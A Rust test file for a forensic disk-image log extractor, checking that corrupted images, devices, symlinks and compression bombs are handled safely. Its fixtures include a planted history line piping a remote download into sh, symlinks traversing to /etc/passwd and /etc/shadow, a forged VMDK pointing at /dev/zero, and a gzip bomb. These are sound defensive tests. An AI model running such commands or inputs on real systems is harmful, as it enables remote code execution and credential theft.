//! Bad input gets a clear error or a partial result: never a panic, a hang,
//! or a write outside the case folder. Plus the promises about repeated runs
//! and damaged partition tables.

use crate::common::*;
use std::collections::HashMap;
use std::ffi::OsStr;
use std::path::Path;
use std::time::Duration;

/// Images listed in volumes*.tsv that are one file (lvm-multi is two disks).
fn fixture_names() -> Vec<String> {
    let mut v: Vec<String> = volumes().into_iter().map(|r| r["image"].clone()).filter(|n| image(n).exists()).collect();
    v.dedup();
    v
}

/// A finished run: exit 0, 1 or 2, within the time limit (a panic is 101, a
/// crash has no code).
fn assert_survives(evidence: &Path, what: &str) -> Output {
    let case = tempfile::tempdir().unwrap();
    let out = snapsift_with_limit(
        &[OsStr::new("extract"), evidence.as_os_str(), OsStr::new("-o"), case.path().as_os_str(), OsStr::new("-q")],
        Duration::from_secs(120),
    );
    assert!(matches!(out.code, Some(0..=2)), "{what}: exit {:?} (a panic or a crash)\nstderr: {}", out.code, out.stderr);
    assert!(!out.stderr.contains("panicked"), "{what}: {}", out.stderr);
    out
}

#[test]
fn truncated_images_never_panic_or_hang() {
    let dir = tempfile::tempdir().unwrap();
    // Where the cuts fall: a plain `cargo test` takes the first N of them.
    let all = [0.0002, 0.1, 0.5, 0.97, 0.0, 0.02, 0.33, 0.75];
    let n = campaign("ROBUSTNESS_CUTS", 4, 8) as usize;
    for name in fixture_names() {
        let data = std::fs::read(image(&name)).unwrap();
        for frac in all.into_iter().take(n) {
            let cut = (data.len() as f64 * frac) as usize;
            let p = dir.path().join(format!("{name}-cut{cut}.img"));
            std::fs::write(&p, &data[..cut]).unwrap();
            assert_survives(&p, &format!("{name} truncated at {cut}"));
        }
    }
}

#[test]
fn bit_flipped_metadata_never_panics_or_hangs() {
    let dir = tempfile::tempdir().unwrap();
    let vols = volumes();
    let seeds = campaign("ROBUSTNESS_SEEDS", 3, 12);
    for name in fixture_names() {
        if name == "split-gpt" || name == "al2023-gpt" {
            continue; // same bytes as linux-gpt / xfs-v5 (and its FAT partition is truncated below)
        }
        let clean = std::fs::read(image(&name)).unwrap();
        let mine: Vec<_> = vols.iter().filter(|v| v["image"] == name).collect();
        let mut offsets: Vec<usize> = mine.iter().filter_map(|v| v["offset"].parse().ok()).collect();
        // Logical volumes have no disk offset: flip across the whole image
        // too, which reaches the PV label and the LVM metadata.
        if mine.iter().any(|v| v["offset"].parse::<usize>().is_err()) {
            offsets.extend((0..clean.len()).step_by(8 << 20));
        }
        for seed in 1..=seeds {
            let mut rng = Rng(seed.wrapping_mul(0x9E37_79B9_7F4A_7C15));
            let mut data = clean.clone();
            // Partition tables, then each filesystem's first 2 MiB: superblock,
            // group descriptors, bitmaps, inode tables, directories.
            for _ in 0..8 {
                let i = (rng.next() % 8192) as usize;
                let last = data.len() - 1;
                data[i.min(last)] ^= 1 << (rng.next() % 8);
            }
            for &off in &offsets {
                for _ in 0..48 {
                    let i = off + (rng.next() % (2 << 20)) as usize;
                    if i < data.len() {
                        data[i] ^= 1 << (rng.next() % 8);
                    }
                }
            }
            let p = dir.path().join(format!("{name}-flip{seed}.img"));
            std::fs::write(&p, &data).unwrap();
            assert_survives(&p, &format!("{name} with bit flips, seed {seed}"));
            std::fs::remove_file(&p).unwrap();
        }
    }
}

/// e2fsprogs' own corrupted regression images (bad root, duplicate blocks,
/// directory loops, bad checksums, …), from ../shared/samples when present.
#[test]
fn e2fsprogs_corrupted_images_never_panic_or_hang() {
    let samples = repo().join("../shared/samples/e2fsprogs");
    let Ok(entries) = std::fs::read_dir(&samples) else {
        println!("SKIPPED: {} is absent (third-party samples are not in the repo)", samples.display());
        return;
    };
    let dir = tempfile::tempdir().unwrap();
    let mut n = 0;
    for e in entries {
        let p = e.unwrap().path();
        if p.extension() != Some(OsStr::new("gz")) {
            continue;
        }
        let mut data = Vec::new();
        std::io::Read::read_to_end(&mut flate2::read::GzDecoder::new(std::fs::File::open(&p).unwrap()), &mut data).unwrap();
        let img = dir.path().join(p.file_stem().unwrap());
        std::fs::write(&img, data).unwrap();
        assert_survives(&img, &p.display().to_string());
        n += 1;
    }
    assert!(n > 0, "no samples found in {}", samples.display());
}

#[test]
fn extracting_the_same_image_twice_keeps_both_copies() {
    let case = tempfile::tempdir().unwrap();
    let img = image("linux-gpt");
    assert_eq!(extract(&[&img], case.path()).code, Some(0));
    assert_eq!(extract(&[&img], case.path()).code, Some(0));
    let r = runs(case.path());
    assert_eq!(r.len(), 2, "one run folder per run");
    let first = read_csv(&r[0].join("manifest.csv"));
    let second = read_csv(&r[1].join("manifest.csv"));
    let firsts: HashMap<(String, String), &HashMap<String, String>> =
        first.iter().filter(|r| r["type"] == "file").map(|row| ((row["volume"].clone(), row["image_path"].clone()), row)).collect();
    let mut n = 0;
    for row in second.iter().filter(|r| r["status"] == "ok" && r["type"] == "file") {
        let f = firsts[&(row["volume"].clone(), row["image_path"].clone())];
        assert_ne!(row["output_path"], f["output_path"], "{} overwritten", row["image_path"]);
        assert!(row["output_path"].contains("__2"), "{}", row["output_path"]);
        assert_eq!(row["sha256"], f["sha256"]);
        for p in [&row["output_path"], &f["output_path"]] {
            assert_eq!(sha256_file(&case.path().join(p)), row["sha256"]);
        }
        n += 1;
    }
    assert!(n > 10);
}

#[test]
fn several_evidence_files_in_one_run_become_separate_hosts() {
    let case = tempfile::tempdir().unwrap();
    let out = extract(&[&image("linux-gpt"), &image("linux-mbr")], case.path());
    assert_eq!(out.code, Some(0), "{}", out.stderr);
    for host in ["web01", "db01"] {
        assert!(case.path().join("Host-Based Logs").join(host).join("var/log").is_dir(), "{host}");
    }
    assert!(case.path().join("Host-Based Logs/db01/_volumes/p5_applogs/app/logs/server.log").is_file());
}

/// A FIFO or a character device given as evidence, or named as an extent
/// by a forged VMDK descriptor, is refused at once: opening a FIFO for
/// reading would wait forever, /dev/zero would never end.
#[test]
fn fifos_and_devices_are_refused_not_waited_on() {
    let dir = tempfile::tempdir().unwrap();
    let fifo = dir.path().join("disk.img");
    let c = std::ffi::CString::new(fifo.as_os_str().as_encoded_bytes()).unwrap();
    assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o600) }, 0);
    let inspect = |p: &Path| snapsift_with_limit(&[OsStr::new("inspect"), p.as_os_str()], Duration::from_secs(30));
    let vmdk = dir.path().join("forged.vmdk");
    for (evidence, extent) in
        [(fifo.clone(), None), ("/dev/zero".into(), None), (vmdk.clone(), Some("disk.img")), (vmdk.clone(), Some("/dev/zero"))]
    {
        if let Some(x) = extent {
            std::fs::write(&vmdk, format!("# Disk DescriptorFile\nversion=1\nCID=fffffffe\nparentCID=ffffffff\ncreateType=\"monolithicFlat\"\nRW 2048 FLAT \"{x}\" 0\n")).unwrap();
        }
        let out = inspect(&evidence);
        assert_eq!(out.code, Some(2), "{evidence:?} {extent:?}: {}", out.stderr);
        assert!(out.stderr.contains("not a regular file or a block device"), "{}", out.stderr);
    }
}

fn same_files_as_clean(img: &Path, clean: &str) -> serde_json::Value {
    let case = tempfile::tempdir().unwrap();
    let out = extract(&[img], case.path());
    assert_eq!(out.code, Some(0), "{}", out.stderr);
    let want = expected(clean).iter().filter(|e| e.extract).count();
    let got = manifest(case.path()).iter().filter(|r| r["status"] == "ok" && r["type"] == "file").count();
    assert_eq!(got, want);
    run_json(&runs(case.path())[0])
}

#[test]
fn damaged_primary_gpt_falls_back_to_the_backup() {
    let dir = tempfile::tempdir().unwrap();
    let mut data = std::fs::read(image("linux-gpt")).unwrap();
    data[512..1024].fill(0);
    let img = dir.path().join("gpt-primary-gone.img");
    std::fs::write(&img, data).unwrap();
    let j = same_files_as_clean(&img, "linux-gpt");
    let w = j["warnings"].to_string();
    assert!(w.contains("backup"), "warning about the backup header: {w}");
}

#[test]
fn odd_boot_flags_and_missing_mbr_signature_are_tolerated() {
    let dir = tempfile::tempdir().unwrap();
    let mut data = std::fs::read(image("linux-mbr")).unwrap();
    data[446] = 0x7F; // boot flag of partition 1: neither 0x00 nor 0x80
    data[510] = 0;
    data[511] = 0;
    let img = dir.path().join("mbr-odd.img");
    std::fs::write(&img, data).unwrap();
    let j = same_files_as_clean(&img, "linux-mbr");
    assert_eq!(j["evidence"][0]["volumes"].as_array().unwrap().len(), 4);
    assert!(j["warnings"].to_string().contains("0x55AA"));
}

#[test]
fn unreadable_evidence_exits_2_with_a_clear_message() {
    let dir = tempfile::tempdir().unwrap();
    let case = dir.path().join("case");
    let out = extract(&[&dir.path().join("missing.raw")], &case);
    assert_eq!(out.code, Some(2));
    let vmdk = dir.path().join("disk.vmdk");
    let mut b = b"KDMV".to_vec();
    b.resize(4096, 0);
    std::fs::write(&vmdk, b).unwrap();
    let out = snapsift(&[OsStr::new("inspect"), vmdk.as_os_str()]);
    assert_eq!(out.code, Some(2));
    assert!(out.stderr.contains("VMDK header is damaged"), "{}", out.stderr);
    let cowd = dir.path().join("old.vmdk");
    let mut b = b"COWD".to_vec();
    b.resize(4096, 0);
    std::fs::write(&cowd, b).unwrap();
    let out = snapsift(&[OsStr::new("inspect"), cowd.as_os_str()]);
    assert_eq!(out.code, Some(2));
    assert!(out.stderr.contains("qemu-img convert"), "{}", out.stderr);
    let out = snapsift(&[OsStr::new("extract"), OsStr::new("--no-such-flag")]);
    assert_eq!(out.code, Some(2));
}

#[test]
fn a_host_directory_is_evidence_too_and_its_symlinks_are_not_followed() {
    let root = tempfile::tempdir().unwrap();
    let r = root.path();
    std::fs::create_dir_all(r.join("etc")).unwrap();
    std::fs::create_dir_all(r.join("var/log")).unwrap();
    std::fs::create_dir_all(r.join("root")).unwrap();
    std::fs::write(r.join("etc/hostname"), "copied01\n").unwrap();
    std::fs::write(r.join("var/log/syslog"), "hello from syslog\n").unwrap();
    std::os::unix::fs::symlink("/etc/passwd", r.join("var/log/evil.log")).unwrap();
    std::os::unix::fs::symlink("/etc", r.join("var/log/evil-dir")).unwrap();
    std::os::unix::fs::symlink("../../../../../../etc/shadow", r.join("root/.bash_history")).unwrap();
    let case = tempfile::tempdir().unwrap();
    let out = extract(&[r], case.path());
    assert_eq!(out.code, Some(0), "{}", out.stderr);
    let host = case.path().join("Host-Based Logs/copied01");
    assert_eq!(std::fs::read_to_string(host.join("var/log/syslog")).unwrap(), "hello from syslog\n");
    assert!(!host.join("var/log/evil.log").exists());
    assert!(!host.join("var/log/evil-dir").exists());
    assert!(!host.join("root/.bash_history").exists());
    let rows = manifest(case.path());
    let link = rows.iter().find(|x| x["image_path"] == "/var/log/evil.log").unwrap();
    assert_eq!(link["status"], "symlink");
    assert_eq!(link["reason"], "-> /etc/passwd");
}

#[test]
fn split_raw_in_split1_naming_xaa_xab() {
    let dir = tempfile::tempdir().unwrap();
    let data = std::fs::read(image("linux-gpt")).unwrap();
    let cut = 10_000_123; // not sector aligned
    std::fs::write(dir.path().join("xaa"), &data[..cut]).unwrap();
    std::fs::write(dir.path().join("xab"), &data[cut..cut + 20_000_000]).unwrap();
    std::fs::write(dir.path().join("xac"), &data[cut + 20_000_000..]).unwrap();
    let j = same_files_as_clean(&dir.path().join("xaa"), "linux-gpt");
    assert_eq!(j["evidence"][0]["format"], "split raw (3 segments)");
}

/// ext4 metadata_csum: a damaged checksum is reported, and the data is
/// still read (a responder wants the logs of a machine that crashed).
#[test]
fn checksum_mismatches_are_warnings_not_failures() {
    let dir = tempfile::tempdir().unwrap();
    let mut data = std::fs::read(image("ext4-edge")).unwrap();
    // Superblock checksum field (superblock at 1024, s_checksum at 0x3FC).
    data[1024 + 0x3FC] ^= 0xFF;
    // The inode of /var/log/syslog: its generation field, which the
    // checksum covers but reading does not use. Inode table from the first
    // group descriptor (4 KiB blocks: descriptors in block 1).
    let row = expected("ext4-edge").into_iter().find(|e| e.path == "/var/log/syslog").unwrap();
    let ino = tsv(&repo().join("images/expected/ext4-edge.tsv")).into_iter().find(|r| r["path"] == "/var/log/syslog").unwrap()["inode"]
        .parse::<usize>()
        .unwrap();
    let u32_at = |o: usize| u32::from_le_bytes(data[o..o + 4].try_into().unwrap()) as usize;
    let bs = 1024usize << u32_at(1024 + 0x18);
    let ipg = u32_at(1024 + 0x28);
    let inode_size = u16::from_le_bytes(data[1024 + 0x58..1024 + 0x5A].try_into().unwrap()) as usize;
    let desc_size =
        if u32_at(1024 + 0x60) & 0x80 != 0 { u16::from_le_bytes(data[1024 + 0xFE..1024 + 0x100].try_into().unwrap()) as usize } else { 32 };
    let group = (ino - 1) / ipg;
    let gd = bs + group * desc_size;
    let table = u32_at(gd + 8);
    let at = table * bs + ((ino - 1) % ipg) * inode_size + 0x64;
    data[at] ^= 0xFF;
    let img = dir.path().join("csum.img");
    std::fs::write(&img, data).unwrap();
    let case = tempfile::tempdir().unwrap();
    let out = extract(&[&img], case.path());
    assert_eq!(out.code, Some(0), "{}", out.stderr);
    let j = run_json(&runs(case.path())[0]);
    let w = j["warnings"].to_string();
    assert!(w.contains("superblock checksum mismatch"), "{w}");
    assert!(w.contains(&format!("inode {ino}: checksum mismatch")), "{w}");
    let syslog = manifest(case.path()).into_iter().find(|r| r["image_path"] == "/var/log/syslog").unwrap();
    assert_eq!(syslog["status"], "ok");
    assert_eq!(syslog["sha256"], row.sha256);
}

#[test]
fn sweep_os_finds_logs_outside_var_log_but_not_in_usr() {
    let ok_paths = |args: &[&str], img: &str| -> Vec<String> {
        let case = tempfile::tempdir().unwrap();
        let mut a: Vec<&OsStr> = vec![OsStr::new("extract")];
        let p = image(img);
        a.push(p.as_os_str());
        a.extend(["-o".as_ref(), case.path().as_os_str(), "-q".as_ref()]);
        a.extend(args.iter().map(OsStr::new));
        let out = snapsift(&a);
        assert_eq!(out.code, Some(0), "{}", out.stderr);
        manifest(case.path()).into_iter().filter(|r| r["status"] == "ok").map(|r| r["image_path"].clone()).collect()
    };
    let default = ok_paths(&[], "ext4-edge");
    let swept = ok_paths(&["--sweep-os"], "ext4-edge");
    assert!(!default.contains(&"/root/app-hardlink.log".to_string()));
    assert!(swept.contains(&"/root/app-hardlink.log".to_string()), "{swept:?}");
    assert!(default.iter().all(|p| swept.contains(p)), "the sweep only adds");
    let lvm = ok_paths(&["--sweep-os"], "linux-lvm");
    assert!(!lvm.iter().any(|p| p.starts_with("/usr/")), "{lvm:?}");
}

fn find(hay: &[u8], needle: &[u8]) -> usize {
    hay.windows(needle.len()).position(|w| w == needle).unwrap()
}

/// LVM metadata with a bad checksum, or a PV that is not in the evidence:
/// the logical volumes are reported as unreadable (exit 1), the rest of
/// the disk is still extracted.
#[test]
fn damaged_lvm_metadata_and_missing_pvs_are_reported_per_volume() {
    let dir = tempfile::tempdir().unwrap();
    let clean = std::fs::read(image("linux-lvm")).unwrap();
    // 1. A byte of the metadata text changed: its checksum no longer holds.
    let mut bad = clean.clone();
    let at = find(&bad, b"logical_volumes {") + 3; // the current copy (older ones stay in the ring)
    bad[at] ^= 0x20;
    // 2. The PV label's UUID changed: the metadata's pv0 is "not here".
    let mut gone = clean.clone();
    let label = find(&gone, b"LABELONE");
    gone[label + 32] ^= 0x01;
    for (name, data, want) in [("bad-csum.img", bad, "checksum mismatch"), ("pv-gone.img", gone, "not in this evidence")] {
        let p = dir.path().join(name);
        std::fs::write(&p, data).unwrap();
        let case = tempfile::tempdir().unwrap();
        let out = extract(&[&p], case.path());
        assert_eq!(out.code, Some(1), "{name}: {}", out.stderr);
        let rows = manifest(case.path());
        let vol_errors: Vec<_> = rows.iter().filter(|r| r["type"] == "volume" && r["status"] == "error").collect();
        assert!(!vol_errors.is_empty(), "{name}: no volume error row");
        assert!(vol_errors.iter().any(|r| r["reason"].contains(want)), "{name}: {:?}", vol_errors);
        // The partitions outside LVM are still extracted (/data's logs).
        assert!(rows.iter().any(|r| r["status"] == "ok" && r["image_path"] == "/app/logs/server.log"), "{name}");
    }
}

#[test]
fn user_targets_and_target_selection() {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("mine.toml");
    std::fs::write(
        &file,
        "[[target]]\nname = \"app-config\"\ndescription = \"the app's config\"\nos = \"linux\"\nscope = \"os\"\npaths = [\"/opt/app/*.conf\"]\n",
    )
    .unwrap();
    let run = |extra: &[&OsStr]| -> (Option<i32>, Vec<String>) {
        let case = tempfile::tempdir().unwrap();
        let img = image("linux-gpt");
        let mut a: Vec<&OsStr> = vec![OsStr::new("extract"), img.as_os_str(), OsStr::new("-o"), case.path().as_os_str(), OsStr::new("-q")];
        a.extend_from_slice(extra);
        let out = snapsift(&a);
        let rows = if out.code == Some(0) { manifest(case.path()) } else { Vec::new() };
        (
            out.code,
            rows.into_iter()
                .filter(|r| r["status"] == "ok" && r["type"] == "file")
                .map(|r| format!("{}:{}", r["target"], r["image_path"]))
                .collect(),
        )
    };
    let (code, got) = run(&[OsStr::new("--targets-file"), file.as_os_str()]);
    assert_eq!(code, Some(0));
    assert!(got.contains(&"app-config:/opt/app/app.log.conf".to_string()), "{got:?}");
    let (_, only) = run(&[OsStr::new("--target"), OsStr::new("linux-logs")]);
    assert!(!only.is_empty() && only.iter().all(|p| p.starts_with("linux-logs:")), "{only:?}");
    let (_, without) = run(&[OsStr::new("--exclude-target"), OsStr::new("shell-history")]);
    assert!(!without.is_empty() && !without.iter().any(|p| p.starts_with("shell-history:")), "{without:?}");
    let (code, _) = run(&[OsStr::new("--target"), OsStr::new("no-such-target")]);
    assert_eq!(code, Some(2), "an unknown target name is an error");
}

#[test]
fn body_file_and_timeline() {
    let case = tempfile::tempdir().unwrap();
    assert_eq!(extract(&[&image("linux-gpt")], case.path()).code, Some(0));
    let body = std::fs::read_to_string(case.path().join("snapsift/bodyfile.txt")).unwrap();
    let auth = body.lines().find(|l| l.contains("|web01/var/log/auth.log|")).expect("auth.log in the body file");
    // Against the sleuthkit listing: inode, size and mtime of auth.log.
    let e = expected("linux-gpt").into_iter().find(|e| e.path == "/var/log/auth.log").unwrap();
    let f: Vec<&str> = auth.split('|').collect();
    assert_eq!((f[0], f[1], f[3]), ("0", "web01/var/log/auth.log", "r/rrw-r--r--"), "{auth}");
    assert_eq!(f[6], e.size.to_string());
    assert_eq!(f[8], e.mtime.0.to_string());
    // The 1965 file, alone in its range: pre-1970 times survive the trip.
    let out = snapsift(&[
        "timeline".as_ref(),
        case.path().as_os_str(),
        "--from".as_ref(),
        "1965-01-01".as_ref(),
        "--to".as_ref(),
        "1965-12-31".as_ref(),
    ]);
    assert_eq!(out.code, Some(0), "{}", out.stderr);
    let rows: Vec<&str> = out.stdout.lines().skip(1).collect();
    assert_eq!(rows.len(), 1, "{rows:?}");
    assert!(rows[0].starts_with("1965-03-04T05:06:07") && rows[0].ends_with("web01/var/log/empty.log"), "{}", rows[0]);
    let all = snapsift(&["timeline".as_ref(), case.path().as_os_str()]);
    let times: Vec<&str> = all.stdout.lines().skip(1).map(|l| l.split(',').next().unwrap()).collect();
    assert!(times.windows(2).all(|w| w[0] <= w[1]), "sorted");
    assert!(times.len() > 30);
    let bad = snapsift(&["timeline".as_ref(), case.path().as_os_str(), "--from".as_ref(), "yesterday".as_ref()]);
    assert_eq!(bad.code, Some(2));
}

/// Logs and histories moved by the machine's own configuration are found,
/// and tagged with how.
#[test]
fn config_aware_discovery_follows_histfile_nginx_and_apache() {
    let root = tempfile::tempdir().unwrap();
    let r = root.path();
    let w = |p: &str, s: &str| {
        let f = r.join(p.trim_start_matches('/'));
        std::fs::create_dir_all(f.parent().unwrap()).unwrap();
        std::fs::write(f, s).unwrap();
    };
    w("/etc/hostname", "conf01\n");
    w("/etc/os-release", "PRETTY_NAME=\"Test\"\n");
    w("/etc/passwd", "root:x:0:0::/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n");
    w("/home/alice/.bashrc", "export HISTFILE=~/.hidden/hist   # keep it out of sight\n");
    w("/home/alice/.hidden/hist", "curl http://203.0.113.7/x | sh\n");
    w("/root/.bashrc", "HISTFILE=/dev/null\n");
    w("/etc/nginx/nginx.conf", "http {\n  include /etc/nginx/conf.d/*.conf;\n}\n");
    w("/etc/nginx/conf.d/site.conf", "server {\n  access_log /srv/www/logs/site-access.log main;\n  error_log off;\n}\n");
    w("/srv/www/logs/site-access.log", "GET /\n");
    w("/srv/www/logs/site-access.log.1.gz", "old\n");
    w("/srv/www/other.txt", "not a log\n");
    w("/etc/httpd/conf/httpd.conf", "ServerRoot \"/etc/httpd\"\nCustomLog \"logs/custom_access\" combined\n");
    w("/etc/httpd/logs/custom_access", "GET /admin\n");
    w("/etc/systemd/journald.conf", "[Journal]\nStorage=volatile\n");
    w("/etc/docker/daemon.json", "{\"data-root\": \"/data/docker\"}\n");
    w("/data/docker/containers/abc123/abc123-json.log", "{\"log\":\"hello\\n\"}\n");
    let case = tempfile::tempdir().unwrap();
    let out = extract(&[r], case.path());
    assert_eq!(out.code, Some(0), "{}", out.stderr);
    let rows = manifest(case.path());
    let got = |p: &str| rows.iter().find(|x| x["image_path"] == p && x["status"] == "ok").map(|x| x["target"].clone());
    assert_eq!(got("/home/alice/.hidden/hist").as_deref(), Some("config:HISTFILE"));
    assert_eq!(got("/srv/www/logs/site-access.log").as_deref(), Some("config:nginx"));
    assert_eq!(got("/srv/www/logs/site-access.log.1.gz").as_deref(), Some("config:nginx"));
    assert_eq!(got("/etc/httpd/logs/custom_access").as_deref(), Some("config:apache"));
    assert_eq!(got("/srv/www/other.txt"), None);
    assert_eq!(got("/data/docker/containers/abc123/abc123-json.log").as_deref(), Some("config:docker"));
    let j = run_json(&runs(case.path())[0]);
    // History switched off and a journal kept in memory are findings (tests/it/findings.rs has them all).
    let f = j["findings"].to_string();
    assert!(f.contains("\"path\":\"/root/.bashrc\"") && f.contains("HISTFILE=/dev/null"), "{f}");
    assert!(f.contains("journald Storage=volatile"), "{f}");
}

/// The community ForensicArtifacts definitions (../shared/samples, skipped
/// when absent) select the same files as the built-in targets do.
#[test]
fn forensic_artifacts_yaml_selects_the_same_files() {
    let fa = repo().join("../shared/samples/forensic-artifacts");
    if !fa.is_dir() {
        println!("SKIPPED: {} is absent (third-party definitions are not in the repo)", fa.display());
        return;
    }
    let ok = |extra: &[&OsStr]| -> std::collections::BTreeSet<String> {
        let case = tempfile::tempdir().unwrap();
        let img = image("linux-gpt");
        let mut a: Vec<&OsStr> = vec![OsStr::new("extract"), img.as_os_str(), OsStr::new("-o"), case.path().as_os_str(), OsStr::new("-q")];
        a.extend_from_slice(extra);
        let out = snapsift(&a);
        assert_eq!(out.code, Some(0), "{}", out.stderr);
        manifest(case.path()).into_iter().filter(|r| r["status"] == "ok").map(|r| r["image_path"].clone()).collect()
    };
    let fa_run = ok(&[
        "--artifacts-yaml".as_ref(),
        fa.as_os_str(),
        "--target".as_ref(),
        "BashShellHistoryFile".as_ref(),
        "--target".as_ref(),
        "NginxAccessLogs".as_ref(),
    ]);
    // The same files, named from the sleuthkit listing of the root volume.
    let want: std::collections::BTreeSet<String> = expected("linux-gpt")
        .into_iter()
        .filter(|e| e.offset == "1048576" && e.kind == "r")
        .map(|e| e.path)
        .filter(|p| p.ends_with("/.bash_history") || p.starts_with("/var/log/nginx/access.log"))
        .collect();
    assert_eq!(fa_run, want);
    assert!(fa_run.is_subset(&ok(&[])), "the built-in targets take them too");

    // WindowsEventLogs on the Windows image: the same .evtx files as the
    // built-in windows-event-logs target, named from the sleuthkit listing.
    let win = |extra: &[&OsStr]| -> std::collections::BTreeSet<String> {
        let case = tempfile::tempdir().unwrap();
        let img = image("ntfs-win");
        let mut a: Vec<&OsStr> = vec![OsStr::new("extract"), img.as_os_str(), OsStr::new("-o"), case.path().as_os_str(), OsStr::new("-q")];
        a.extend_from_slice(extra);
        assert_eq!(snapsift(&a).code, Some(0));
        manifest(case.path()).into_iter().filter(|r| r["status"] == "ok" && r["type"] == "file").map(|r| r["image_path"].clone()).collect()
    };
    let fa_evtx = win(&["--artifacts-yaml".as_ref(), fa.as_os_str(), "--target".as_ref(), "WindowsEventLogs".as_ref()]);
    let builtin_evtx = win(&["--target".as_ref(), "windows-event-logs".as_ref()]);
    let listed: std::collections::BTreeSet<String> = expected("ntfs-win")
        .into_iter()
        .filter(|e| {
            e.kind == "r" && e.path.to_lowercase().starts_with("/windows/system32/winevt/logs/") && e.path.to_lowercase().ends_with(".evtx")
        })
        .map(|e| e.path)
        .collect();
    assert!(!listed.is_empty());
    assert_eq!(fa_evtx, listed);
    assert_eq!(builtin_evtx, listed);
}

/// `--decompress`: plain copies beside compressed logs, made by the real
/// compressors; a gzip bomb named like a rotated log is stopped.
#[test]
fn decompress_writes_plain_copies_and_stops_bombs() {
    let root = tempfile::tempdir().unwrap();
    let log = root.path().join("var/log");
    std::fs::create_dir_all(&log).unwrap();
    std::fs::create_dir_all(root.path().join("etc")).unwrap();
    std::fs::write(root.path().join("etc/hostname"), "zip01\n").unwrap();
    let text = "May  1 00:00:01 zip01 sshd[1]: Failed password for root\n".repeat(500);
    let mut want = Vec::new();
    for (tool, ext) in [("gzip", "gz"), ("xz", "xz"), ("bzip2", "bz2"), ("zstd", "zst")] {
        if std::process::Command::new(tool).arg("--version").output().is_err() {
            println!("SKIPPED {tool}: not installed");
            continue;
        }
        let name = format!("auth-{ext}.log.1");
        std::fs::write(log.join(&name), &text).unwrap();
        let st = std::process::Command::new(tool).args(["-q", "-f"]).arg(log.join(&name)).status().unwrap();
        assert!(st.success());
        if ext == "zst" {
            std::fs::remove_file(log.join(&name)).unwrap(); // zstd keeps the input
        }
        want.push(name);
    }
    // 300 MiB of zeros: ~300 KB of gzip.
    let mut bomb = flate2::write::GzEncoder::new(std::fs::File::create(log.join("bomb.log.1.gz")).unwrap(), flate2::Compression::best());
    let zeros = vec![0u8; 1 << 20];
    for _ in 0..300 {
        std::io::Write::write_all(&mut bomb, &zeros).unwrap();
    }
    bomb.finish().unwrap();
    let case = tempfile::tempdir().unwrap();
    let out = snapsift(&[
        "extract".as_ref(),
        root.path().as_os_str(),
        "-o".as_ref(),
        case.path().as_os_str(),
        "-q".as_ref(),
        "--decompress".as_ref(),
    ]);
    assert_eq!(out.code, Some(0), "{}", out.stderr);
    let host = case.path().join("Host-Based Logs/zip01/var/log");
    for name in &want {
        assert_eq!(std::fs::read_to_string(host.join(name)).unwrap(), text, "{name}");
    }
    assert!(!host.join("bomb.log.1").exists(), "the bomb's partial copy is removed");
    assert!(host.join("bomb.log.1.gz").exists(), "the original is kept");
    let rows = manifest(case.path());
    let bomb_row = rows.iter().find(|r| r["type"] == "decompressed" && r["image_path"] == "/var/log/bomb.log.1.gz").unwrap();
    assert_eq!(bomb_row["status"], "skipped");
    assert!(bomb_row["reason"].contains("inflates past"), "{}", bomb_row["reason"]);
}

/// The case report: one page, every host, volume, mount point, target and
/// warning of the run; and, where Chromium is installed, it renders.
#[test]
fn the_html_report_lists_hosts_volumes_and_warnings() {
    let case = tempfile::tempdir().unwrap();
    let a = fixtures().join("lvm-multi-a.img");
    assert_eq!(extract(&[&image("linux-lvm"), &a], case.path()).code, Some(1));
    let page = std::fs::read_to_string(case.path().join("snapsift/report.html")).unwrap();
    for want in [
        "lvm01.internal",
        "multi01",
        "vg0-var_log",
        "/var/log",
        "/data",
        "linux-logs",
        "shell-history",
        "is not in this evidence",
        "Amazon Linux 2023",
        "Unreadable or incomplete (2)",
        "vg1-data",
        // The activity chart: inline SVG, one row per host under the case total.
        "<h2>Activity</h2><svg width=\"1100\"",
        ">all hosts</text>",
        "events from converted logs and the last-change times of the text logs",
        // Times to the second, the full value on hover; files as links into the case folder.
        "<span title=\"",
        "<a href=\"../Host-Based%20Logs/lvm01.internal/",
    ] {
        assert!(page.contains(want), "report lacks {want:?}");
    }
    assert!(!page.contains("http://") && !page.contains("https://"), "no network needed");
    let Some(chromium) =
        ["chromium", "chromium-browser"].into_iter().find(|c| std::process::Command::new(c).arg("--version").output().is_ok())
    else {
        println!("SKIPPED render check: chromium is not installed");
        return;
    };
    let shot = |html: &std::path::Path, png: &std::path::Path| {
        let status = std::process::Command::new(chromium)
            .args([
                "--headless",
                "--no-sandbox",
                "--disable-gpu",
                "--disable-background-networking",
                "--no-first-run",
                "--window-size=1200,1600",
                "--hide-scrollbars",
            ])
            .arg(format!("--user-data-dir={}", case.path().join("chromium-profile").display()))
            .arg(format!("--screenshot={}", png.display()))
            .arg(format!("file://{}", html.display()))
            .output()
            .unwrap();
        assert!(png.exists(), "no screenshot: {}", String::from_utf8_lossy(&status.stderr));
        std::fs::metadata(png).unwrap().len()
    };
    let blank = case.path().join("blank.html");
    std::fs::write(&blank, "<!doctype html><html><body></body></html>").unwrap();
    // Kept for people to look at: target/tmp/report.png.
    let png = std::path::Path::new(env!("CARGO_TARGET_TMPDIR")).join("report.png");
    let report = shot(&case.path().join("snapsift/report.html"), &png);
    println!("the report's screenshot: {}", png.display());
    let empty = shot(&blank, &case.path().join("blank.png"));
    assert!(report > empty * 4, "the report renders as more than a blank page ({report} vs {empty} bytes of PNG)");
}
